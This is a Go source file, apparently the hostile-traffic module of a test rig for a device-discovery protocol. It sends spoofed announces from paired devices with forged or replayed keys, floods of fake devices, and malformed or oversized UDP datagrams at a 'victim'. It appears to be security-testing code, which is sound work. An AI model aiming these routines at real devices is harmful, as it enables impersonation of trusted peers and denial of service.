package hostile

import (
	"context"
	"crypto/rand"
	"fmt"
	"net"
	"time"

	"dsoftbus-rig/nodes/device"
	"dsoftbus-rig/protocol/nxsb"
)

// tell opens the way to where the victim hears announces.
func (r *request) tell() (net.Conn, error) {
	c, err := net.Dial("udp", r.udp.String())
	if err != nil {
		return nil, fmt.Errorf("reach the victim's UDP port: %w", err)
	}
	return c, nil
}

// send sends count datagrams at a rate a second. That nobody hears one is no error.
func (r *request) send(ctx context.Context, count, rate int, datagram func(n int) ([]byte, error)) (time.Duration, error) {
	c, err := r.tell()
	if err != nil {
		return 0, err
	}
	defer c.Close()
	begin := time.Now()
	for n := range count {
		b, err := datagram(n)
		if err != nil {
			return 0, err
		}
		c.Write(b)
		if ahead := time.Duration(n)*time.Second/time.Duration(rate) - time.Since(begin); ahead > 0 && !wait(ctx, ahead) {
			return 0, context.Cause(ctx)
		}
	}
	return time.Since(begin), nil
}

func announce(id string, port uint16) ([]byte, error) {
	a := nxsb.Announce{DeviceID: id, Port: port, Services: []string{device.ServicePackageFS}}
	rand.Read(a.Key[:])
	return nxsb.Append(nil, a)
}

// impostor announces a device that the victim is paired with, with other keys.
func impostor(ctx context.Context, r *request) (string, error) {
	as := r.as
	if as == "" {
		as = r.self.ID
	}
	_, err := r.send(ctx, r.count, 100, func(int) ([]byte, error) { return announce(as, sessionPort) })
	if err != nil {
		return "", err
	}
	return fmt.Sprintf("announces=%d as=%s", r.count, as), r.knock(ctx)
}

// announces are of as many devices, or of fewer in turn, each as long as may be.
func announces(ctx context.Context, r *request) (string, error) {
	took, err := r.send(ctx, r.count, r.rate, func(n int) ([]byte, error) {
		return announce(fmt.Sprintf("%064d", n%r.devices), uint16(n))
	})
	if err != nil {
		return "", err
	}
	if err := r.knock(ctx); err != nil {
		return "", err
	}
	return fmt.Sprintf("announces=%d per_second=%.0f", r.count, float64(r.count)/took.Seconds()), nil
}

// lies announce a device that the victim is paired with, with its true key, as if it were on this machine: on ports at which
// nothing listens, and more of them than the victim keeps of one device.
func lies(ctx context.Context, r *request) (string, error) {
	a := r.trueAnnounce()
	const ports, first = 8, 20_001
	_, err := r.send(ctx, r.count, r.rate, func(n int) ([]byte, error) {
		a.Port = uint16(first + n%ports)
		return nxsb.Append(nil, a)
	})
	if err != nil {
		return "", err
	}
	return fmt.Sprintf("announces=%d as=%s", r.count, r.as), r.knock(ctx)
}

// largestDatagram is what UDP over IPv4 carries.
const largestDatagram = 65507

// datagrams are a good announce that was spoiled.
func datagrams(ctx context.Context, r *request) (string, error) {
	good, err := announce("stranger", sessionPort)
	if err != nil {
		return "", err
	}
	const idAt = 6
	spoil := []func(n int, b []byte) []byte{
		func(n int, b []byte) []byte { return b[:n%len(b)] },                                       // cut
		func(n int, b []byte) []byte { b[n%4] ^= 1; return b },                                     // magic
		func(n int, b []byte) []byte { b[4] = byte(n) | 2; return b },                              // version
		func(n int, b []byte) []byte { b[5] = 0; return b },                                        // id of no bytes
		func(n int, b []byte) []byte { b[5] = 65 + byte(n); return b },                             // too long, or longer than what is there
		func(n int, b []byte) []byte { b[idAt+n%8] = 0xff; return b },                              // not UTF-8
		func(n int, b []byte) []byte { b[idAt+8+34] = 17; return b },                               // services
		func(n int, b []byte) []byte { b[idAt+8+35] = 0xff; return b },                             // a service's name
		func(n int, b []byte) []byte { return make([]byte, n%65+1000) },                            // zeros
		func(n int, b []byte) []byte { return append(b, make([]byte, largestDatagram-len(b))...) }, // good, and more behind it
		func(n int, b []byte) []byte { return make([]byte, largestDatagram) },
	}
	_, err = r.send(ctx, r.count, 500, func(n int) ([]byte, error) {
		return spoil[n%len(spoil)](n/len(spoil), append([]byte(nil), good...)), nil
	})
	if err != nil {
		return "", err
	}
	return fmt.Sprintf("datagrams=%d kinds=%d", r.count, len(spoil)), r.knock(ctx)
}
